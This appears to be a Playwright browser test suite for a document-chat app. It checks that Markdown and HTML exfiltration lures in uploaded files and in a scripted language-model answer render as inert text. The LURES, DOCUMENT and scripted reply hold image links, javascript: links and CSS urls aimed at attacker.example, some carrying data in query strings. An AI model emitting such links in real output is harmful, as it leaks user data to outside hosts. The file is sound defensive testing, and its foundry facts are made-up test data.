"""Markdown and HTML exfiltration (OWASP LLM05): links and images in a document or in an LLM
answer are shown as text in the browser and fetch nothing outside the app.

Each test drives its own Chromium from a thread of its own: tests/browser keeps a sync
Playwright open in the main thread for the whole session, and a second one may not share it.
"""

from __future__ import annotations

from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from browser.conftest import CHROMIUM, CHROMIUM_ARGS, LiveApp, Watched
from browser.test_chat_ui import ask, upload
from llm_server import ScriptedLLM
from playwright.sync_api import Locator, Page, expect, sync_playwright

pytestmark = pytest.mark.browser

ATTACKER = "http://attacker.example"
LURES = (
    f"![x]({ATTACKER}/?q=pellucid) [details](javascript:alert(7)) "
    f'<img src="{ATTACKER}/i.png"> <{ATTACKER}/auto> ![ref][r] '
    f'<a href="{ATTACKER}/a">more</a> <span style="background:url({ATTACKER}/bg.png)">bg</span>'
)
DOCUMENT = f"""---
title: "Pellucid notes ![t]({ATTACKER}/title.png)"
as_of: 2026-04-01
---
# Pellucid foundry

The Pellucid foundry in Quorra etches 5 nm sensor chips for weather drones {LURES}.

[r]: {ATTACKER}/ref.png
"""
FOREIGN = (
    'img[src*="attacker"], a[href*="attacker"], a[href^="javascript"], [style*="attacker"], '
    "iframe, object, embed"
)


def on_own_page(live_app: LiveApp, check: Callable[[Watched], None]) -> None:
    """Run `check` on a fresh page of the app that records its requests and dialogs."""

    def run() -> None:
        expect.set_options(timeout=30_000)
        with sync_playwright() as playwright:
            chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
            page = chromium.new_page(viewport={"width": 1400, "height": 1000})
            page.set_default_timeout(30_000)
            watched = Watched(page)
            page.on("request", lambda request: watched.requests.append(request.url))
            page.on("dialog", lambda box: (watched.dialogs.append(box.message), box.dismiss()))
            page.goto(live_app.url)
            check(watched)
            chromium.close()

    with ThreadPoolExecutor(1) as thread:
        thread.submit(run).result()


def assert_nothing_foreign(watched: Watched, live_app: LiveApp) -> None:
    """No element points outside the app, no dialog opened, no request left the app."""
    watched.page.wait_for_timeout(500)
    assert watched.page.locator(FOREIGN).count() == 0
    assert watched.dialogs == []
    assert [url for url in watched.requests if not url.startswith(live_app.origin + "/")] == []


def ask_after_upload(page: Page, path: Path, question: str) -> Locator:
    """Upload `path` in the Corpus tab, then ask `question` in the Chat tab."""
    expect(upload(page, path)).to_contain_text("indexed")
    page.get_by_role("tab", name="Chat").click()
    return ask(page, question)


def test_document_markdown_is_shown_not_fetched(live_app: LiveApp, tmp_path: Path) -> None:
    notes = tmp_path / "pellucid-notes.md"
    notes.write_text(DOCUMENT, encoding="utf-8")

    def check(watched: Watched) -> None:
        page = watched.page
        answer = ask_after_upload(page, notes, "What does the Pellucid foundry in Quorra etch?")
        expect(answer).to_contain_text(f"weather drones ![x]({ATTACKER}/?q=pellucid)")
        expect(page.locator("#sources")).to_contain_text("[details](javascript:alert(7))")
        page.get_by_role("tab", name="Corpus").click()
        title = f"Pellucid notes ![t]({ATTACKER}/title.png)"
        expect(page.locator("#documents")).to_contain_text(title)
        assert_nothing_foreign(watched, live_app)

    on_own_page(live_app, check)


def test_llm_markdown_that_survives_verification_is_shown_as_text(
    live_app: LiveApp, scripted_llm: ScriptedLLM
) -> None:
    claim = "DeepSeek shows that China can build capable AI models more efficiently"
    lure = f"![x]({ATTACKER}/?q=deepseek) [see](javascript:alert(8)) <img src={ATTACKER}/l.png>"
    scripted_llm.replies.append(f"{claim} {lure} [1][2][3][4][5][6]")

    def check(watched: Watched) -> None:
        page = watched.page
        page.get_by_role("button", name="Answer options").click()
        page.get_by_role("radio", name="Write an answer with the language model").check()
        answer = ask(page, "How important is DeepSeek?")
        expect(answer.locator(".cq-text")).to_have_text(f"{claim} {lure} [1]")
        assert_nothing_foreign(watched, live_app)

    on_own_page(live_app, check)
